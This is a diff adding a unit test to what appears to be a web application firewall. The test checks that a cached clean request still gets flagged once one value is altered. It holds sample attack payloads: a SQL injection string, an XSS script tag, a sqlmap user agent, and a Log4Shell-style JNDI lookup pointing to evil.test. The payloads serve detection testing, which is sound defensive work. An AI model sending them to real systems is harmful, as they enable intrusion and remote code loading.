@@ -94,6 +94,41 @@ class RuleSetMemoTest {
     }
   }
 
+  /**
+   * A request seen before is ruled out by the memo before any rule runs (each rule has a
+   * condition known to match nothing where it looks), and the same request with one value turned
+   * into an attack — in a named header, a query argument, a cookie — is still caught.
+   */
+  @Test
+  void aRepeatedCleanRequestIsRuledOutRuleByRuleButAnAttackAnywhereIsStillFound() {
+    RuleSet rules = new RuleSet(config("{\"paranoia\": 1}"), true);
+    java.util.function.BiFunction<String, String[], WafRequest> request = (query, header) -> {
+      MultiMap h = MultiMap.caseInsensitiveMultiMap()
+          .add("Host", "shop.example.com")
+          .add("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0")
+          .add("Accept", "application/json")
+          .add("Authorization", "Bearer " + "eyJhbGciOiJSUzI1NiJ9.".repeat(30))
+          .add("Cookie", "session=7f3a9c2e-41b2-4f0e-9d7a-2c5b8e1f6a90; theme=dark");
+      if (header != null) {
+        h.set(header[0], header[1]);
+      }
+      return WafRequest.of("GET", "/catalog/items/12345", query, h, "http/1.1", null);
+    };
+    String clean = "q=running+shoes&page=2&sort=price";
+    assertEquals(0, rules.evaluate(request.apply(clean, null), null).score());
+    assertEquals(0, rules.evaluate(request.apply(clean, null), null).score());
+    assertEquals(rules.rules(), rules.knownClean(request.apply(clean, null)), "every rule ruled out by the memo");
+    assertTrue(rules.evaluate(request.apply(clean, new String[] {"User-Agent", "sqlmap/1.7"}), null).score() > 0);
+    assertTrue(rules.evaluate(request.apply("q=1%27+or+%271%27%3D%271&page=2&sort=price", null), null).score() > 0);
+    assertTrue(rules.evaluate(request.apply(clean, new String[] {"Cookie", "session=<script>alert(1)</script>"}), null)
+        .score() > 0);
+    assertTrue(rules.evaluate(request.apply(clean, new String[] {"Accept", "${jndi:ldap://evil.test/a}"}), null)
+        .score() > 0);
+    assertTrue(rules.evaluate(request.apply(clean, new String[] {"Content-Length", "12"}), null).score() > 0,
+        "a GET with a body: a header the clean request did not have");
+    assertEquals(0, rules.evaluate(request.apply(clean, null), null).score(), "and the clean one still passes");
+  }
+
   @Test
   void theMemoStartsOverWhenFullAndKeepsNoLongValues() {
     RuleSet rules = new RuleSet(config("{\"paranoia\": 1}"), true);
